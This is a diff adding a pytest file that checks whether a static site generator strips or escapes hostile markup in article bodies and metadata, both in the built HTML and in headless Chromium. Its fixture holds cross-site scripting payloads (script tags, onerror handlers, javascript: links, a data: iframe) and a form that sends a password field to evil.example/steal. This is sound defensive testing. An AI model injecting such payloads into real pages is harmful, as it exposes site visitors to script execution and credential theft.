@@ -1,0 +1,78 @@
+"""Hostile article bodies and metadata never reach a page as markup; checked in the HTML and in Chromium."""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+
+import pytest
+from conftest import make_project, run_digest, soup
+
+HOSTILE = """Title: <script>document.documentElement.dataset.pwned = "title"</script> Hostile "title"
+Date: 2024-01-02
+Authors: <img src=x onerror="document.documentElement.dataset.pwned='author'">
+Publisher: Evil <b onmouseover="alert(1)">Press</b>
+
+A normal paragraph with a <a href="javascript:document.documentElement.dataset.pwned='link'">link</a>.
+
+<script>document.documentElement.dataset.pwned = "script"</script>
+
+<img src="x" onerror="document.documentElement.dataset.pwned='img'">
+
+<iframe src="data:text/html,<script>parent.document.documentElement.dataset.pwned='frame'</script>"></iframe>
+
+<svg><script>document.documentElement.dataset.pwned='svg'</script><circle onload="alert(1)"/></svg>
+
+<style>body { display: none }</style>
+
+<div onclick="alert(1)" style="position:fixed">Click</div>
+
+<form action="https://evil.example/steal"><input name="password"></form>
+
+Last paragraph, “a quotation,” said Mallory Evil.
+"""
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory):
+    project = make_project(tmp_path_factory.mktemp("hostile"), {"hostile.md": HOSTILE})
+    result = run_digest("build", "-s", str(project / "pelicanconf.py"), "-o", str(project / "output"), cwd=project)
+    assert result.returncode == 0, result.stderr
+    return project / "output"
+
+
+def _article(site):
+    [path] = [p for p in (site / "articles").glob("*.html") if "hostile" in p.name]
+    return path
+
+
+def test_no_active_markup_in_any_page(hostile_site):
+    for path in hostile_site.rglob("*.html"):
+        page = soup(path)
+        for tag in ("iframe", "form", "input", "style", "svg", "object", "embed"):
+            assert not page.find(tag), (path, tag)
+        scripts = [s for s in page.find_all("script") if s.get("type") != "application/ld+json"]
+        assert not scripts, path
+        for element in page.find_all(True):
+            assert not [a for a in element.attrs if a.lower().startswith("on")], (path, element.name)
+            for attribute in ("href", "src"):
+                assert not str(element.get(attribute, "")).lower().startswith(("javascript:", "data:")), path
+
+
+def test_hostile_text_is_shown_as_text(hostile_site):
+    page = soup(_article(hostile_site))
+    assert "<script>" in page.h1.get_text()  # escaped and visible, not executed
+    assert page.select_one(".article-body").get_text().count("normal paragraph") == 1
+    assert [p["id"] for p in page.select(".article-body p[id]")][:1] == ["p-1"]
+
+
+@pytest.mark.skipif(not shutil.which("chromium"), reason="Debian's chromium is not installed (.ci/run installs it)")
+def test_no_script_runs_in_chromium(hostile_site, tmp_path):
+    for path in (_article(hostile_site), hostile_site / "index.html"):
+        dom = subprocess.run(
+            ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
+             "--disable-component-update", "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}",
+             "--virtual-time-budget=2000", "--dump-dom", path.as_uri()],
+            capture_output=True, text=True, timeout=120).stdout
+        assert "<html" in dom, "chromium rendered the page"
+        assert "data-pwned" not in dom, path
